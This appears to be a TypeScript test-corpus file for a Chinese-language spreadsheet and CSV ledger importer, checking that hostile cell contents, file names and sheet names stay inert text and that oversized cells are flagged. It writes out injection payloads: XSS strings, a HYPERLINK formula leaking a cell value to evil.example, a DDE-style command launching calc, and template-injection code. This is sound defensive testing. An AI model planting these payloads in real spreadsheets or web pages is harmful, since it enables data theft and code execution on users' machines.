import { type CorpusCase, issuesIn, rowsOf } from '../case.ts';
import { rawXlsx } from '../rawXlsx.ts';
import { textSheet } from '../text.ts';

const HEAD = ['事项编号', '报告月份', '进度%', '进展情况'];
const LINES = rowsOf('row | item | month | progress | text\n 2 | 04 | 2023-11 | 80 | 已批复');
const MEGA = 1_048_576;

const TEXTS = ['进展情况', '存在问题', '需协调事项', '下一步', '佐证', '目标', '责任单位'] as const;
const NASTY = [
  '<img src=x onerror=alert(1)>',
  '<script>document.title="owned"</script>',
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  "+cmd¦' /C calc'!A0".replace('¦', '|'),
  '@SUM(1+1)*cmd',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
] as const;

/** Cells made to run as something. */
export const INJECTED: readonly CorpusCase[] = [
  {
    name: 'HTML, script and formulas as text in every text column stay text',
    files: () => [
      {
        name: '注入.csv',
        bytes: textSheet([
          ['事项编号', '报告月份', ...TEXTS],
          ['2023H2-04', '2023-11', ...NASTY],
        ]),
      },
    ],
    expected: {
      sheets: [
        {
          file: '注入.csv',
          taken: 'ledger',
          lines: [
            {
              row: '2',
              item: '04',
              text: NASTY[0],
              difficulty: NASTY[1],
              need: NASTY[2],
              next: NASTY[3],
              evidence: NASTY[4],
              target: NASTY[5],
              units: `责任:${NASTY[6]}`,
            },
          ],
        },
      ],
      issues: [],
    },
  },
  {
    name: 'formula cells: the stored result is read, the formula told once a column',
    files: () => [
      {
        name: '公式.xlsx',
        bytes: rawXlsx({
          name: '11月',
          rows: [
            HEAD,
            [
              '2023H2-04',
              '2023-11',
              { value: 80, formula: '40*2' },
              { value: '点击', formula: 'HYPERLINK("http://evil.example/","点击")' },
            ],
            ['2023H2-05', '2023-11', { value: 70, formula: 'C2-10' }, '<b>路基</b>'],
          ],
        }),
      },
    ],
    expected: {
      sheets: [
        {
          file: '公式.xlsx',
          sheet: '11月',
          taken: 'ledger',
          lines: rowsOf(`
            row | item | progress | text
            2   | 04   | 80       | 点击
            3   | 05   | 70       | <b>路基</b>
          `),
        },
      ],
      issues: issuesIn('公式.xlsx', '11月', 'code | column\n formula | 进度%\n formula | 进展情况'),
      never: ['evil.example'],
    },
  },
  {
    name: 'names of heads, sheets and files that are traps',
    files: () => [
      {
        name: '<img src=x onerror=alert(1)>.xlsx',
        bytes: rawXlsx({
          name: "=cmd!'A0",
          rows: [
            ['__proto__', 'constructor', 'toString', ...HEAD, '<script>1</script>'],
            ['{"a":1}', 'b', 'c', '2023H2-04', '2023-11', 80, '已批复', 'd'],
          ],
        }),
      },
    ],
    expected: {
      sheets: [{ file: '<img src=x onerror=alert(1)>.xlsx', sheet: "=cmd!'A0", taken: 'ledger', lines: LINES }],
      issues: [],
      may: ['column-unused'],
    },
  },
  {
    name: 'cells of a megabyte in a CSV and in a workbook',
    files: () => [
      { name: '大格.csv', bytes: textSheet([HEAD, ['2023H2-04', '2023-11', 80, '长'.repeat(MEGA / 3)]]) },
      {
        name: '大格.xlsx',
        bytes: rawXlsx({ name: 'Sheet1', rows: [HEAD, ['2023H2-05', '2023-11', 70, 'x'.repeat(MEGA)]] }),
      },
    ],
    expected: {
      sheets: [
        { file: '大格.csv', taken: 'ledger', lines: rowsOf('row | item | progress\n 2 | 04 | 80') },
        { file: '大格.xlsx', taken: 'ledger', lines: rowsOf('row | item | progress\n 2 | 05 | 70') },
      ],
      issues: [
        { codes: ['cell-too-long'], file: '大格.csv', row: 2, column: '进展情况' },
        { codes: ['cell-too-long'], file: '大格.xlsx', row: 2, column: '进展情况' },
      ],
      never: ['长'.repeat(100_000), 'x'.repeat(100_000)],
    },
  },
];
